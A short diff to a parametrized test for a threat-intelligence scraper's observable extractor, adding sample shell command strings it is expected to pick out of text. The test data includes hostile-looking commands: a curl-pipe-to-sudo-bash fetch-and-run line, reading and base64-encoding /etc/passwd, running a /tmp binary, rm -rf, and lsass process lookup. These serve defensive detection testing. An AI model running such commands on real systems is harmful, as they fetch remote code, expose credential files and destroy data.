@@ -14,6 +14,10 @@ from ctiscraper.enrich.observables import find_observables
         ("x: tasklist | findstr lsass", ["tasklist | findstr lsass"]),
         ("Get-Process | Where-Object {$_.Id}", ["Get-Process | Where-Object {$_.Id}"]),
         ('reg query HKLM\\Run | find "x | y"', ['reg query HKLM\\Run | find "x | y"']),
+        ("cat /etc/passwd | grep root", ["cat /etc/passwd | grep root"]),
+        ("run `cat /etc/passwd | base64`", ["cat /etc/passwd | base64"]),
+        ("chmod +x /tmp/a && /tmp/a -d", ["chmod +x /tmp/a && /tmp/a -d"]),
+        ("rm -rf /tmp/a /tmp/b > /dev/null", ["rm -rf /tmp/a /tmp/b > /dev/null"]),
         ("curl http://x.com/a.sh | sudo bash", ["curl http://x.com/a.sh | sudo bash"]),
     ],
 )
